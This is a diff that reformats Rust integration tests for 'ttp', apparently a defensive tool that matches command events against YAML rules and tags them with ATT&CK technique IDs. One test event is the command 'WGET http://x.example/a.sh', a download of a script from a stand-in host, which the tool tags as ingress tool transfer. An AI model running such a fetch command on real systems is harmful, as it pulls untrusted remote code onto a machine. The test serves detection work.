@@ -8,7 +8,9 @@ use tempfile::TempDir;
 
 fn ttp() -> Command {
     let mut c = Command::cargo_bin("ttp").unwrap();
-    c.env_remove("TTP_RULES").env_remove("TTP_DB").env("TTP_LOG", "error");
+    c.env_remove("TTP_RULES")
+        .env_remove("TTP_DB")
+        .env("TTP_LOG", "error");
     c
 }
 
@@ -46,16 +48,24 @@ fn check_reports_located_errors_and_fails() {
         .arg(dir.path())
         .assert()
         .code(1)
-        .stdout(predicate::str::contains("b.yaml:6:12: error[E008]: invalid regex"))
+        .stdout(predicate::str::contains(
+            "b.yaml:6:12: error[E008]: invalid regex",
+        ))
         .stdout(predicate::str::contains("6 |   pattern: '(unclosed'"))
         .stdout(predicate::str::contains("^"))
-        .stdout(predicate::str::contains("2 files, 1 rules loaded, 1 broken files: 1 errors"));
+        .stdout(predicate::str::contains(
+            "2 files, 1 rules loaded, 1 broken files: 1 errors",
+        ));
 }
 
 #[test]
 fn check_passes_on_good_rules_and_speaks_json() {
     let dir = rules_dir(&[("a.yaml", WHOAMI), ("b.yml", WGET)]);
-    ttp().args(["check", "--rules"]).arg(dir.path()).assert().success();
+    ttp()
+        .args(["check", "--rules"])
+        .arg(dir.path())
+        .assert()
+        .success();
     let out = ttp()
         .args(["check", "--format", "json", "--rules"])
         .arg(dir.path())
@@ -86,7 +96,9 @@ fn strict_turns_unknown_keys_into_errors() {
         .arg(dir.path())
         .assert()
         .success()
-        .stdout(predicate::str::contains("warning[W101]: unknown key `colour`"));
+        .stdout(predicate::str::contains(
+            "warning[W101]: unknown key `colour`",
+        ));
     ttp()
         .args(["check", "--strict", "--rules"])
         .arg(dir.path())
@@ -109,7 +121,8 @@ fn tag_loads_good_rules_rejects_bad_lines_and_is_idempotent() {
         event("e1", "whoami"),
         "not json".to_string(),
         event("e2", "WGET http://x.example/a.sh"),
-        r#"{"source_kind":"command","source_id":"e3","payload":{"command_text":"whoami"}}"#.to_string(),
+        r#"{"source_kind":"command","source_id":"e3","payload":{"command_text":"whoami"}}"#
+            .to_string(),
         event("e4", "ls"),
     ]
     .join("\n");
@@ -132,13 +145,22 @@ fn tag_loads_good_rules_rejects_bad_lines_and_is_idempotent() {
         ))
         .stderr(predicate::str::contains("rules: 2 loaded, 1 broken"));
     let stdout = String::from_utf8(first.get_output().stdout.clone()).unwrap();
-    let tags: Vec<serde_json::Value> = stdout.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    let tags: Vec<serde_json::Value> = stdout
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
     assert_eq!(tags.len(), 2);
     assert_eq!(tags[0]["rule_id"], "T0001");
     assert_eq!(tags[0]["evidence"]["command_text"], "whoami");
     assert_eq!(tags[1]["technique_id"], "T1105");
     assert_eq!(count(&db, "SELECT count(*) FROM ttp_tag"), 2);
-    assert_eq!(count(&db, "SELECT count(*) FROM ttp_tag WHERE length(rule_sha256) = 64"), 2);
+    assert_eq!(
+        count(
+            &db,
+            "SELECT count(*) FROM ttp_tag WHERE length(rule_sha256) = 64"
+        ),
+        2
+    );
     assert_eq!(count(&db, "PRAGMA user_version"), 1);
 
     // A second run inserts nothing and prints nothing.
@@ -151,7 +173,9 @@ fn tag_loads_good_rules_rejects_bad_lines_and_is_idempotent() {
         .assert()
         .success()
         .stdout(predicate::str::is_empty())
-        .stderr(predicate::str::contains("3 emitted, 0 new, 2 already present"));
+        .stderr(predicate::str::contains(
+            "3 emitted, 0 new, 2 already present",
+        ));
 }
 
 #[test]
@@ -169,7 +193,10 @@ fn tag_reads_defaults_from_the_environment_and_honours_the_floor() {
         .assert()
         .success()
         .stderr(predicate::str::contains("2 emitted, 2 new"));
-    assert_eq!(count(&db, "SELECT count(*) FROM ttp_tag WHERE confidence = 0.2"), 1);
+    assert_eq!(
+        count(&db, "SELECT count(*) FROM ttp_tag WHERE confidence = 0.2"),
+        1
+    );
 }
 
 #[test]
@@ -204,7 +231,9 @@ fn a_locked_database_is_a_clear_error() {
         .assert()
         .success();
     let holder = rusqlite::Connection::open(&db).unwrap();
-    holder.execute_batch("PRAGMA journal_mode=DELETE; BEGIN EXCLUSIVE;").unwrap();
+    holder
+        .execute_batch("PRAGMA journal_mode=DELETE; BEGIN EXCLUSIVE;")
+        .unwrap();
     ttp()
         .args(["tag", "--lock-timeout-ms", "200", "--rules"])
         .arg(dir.path())
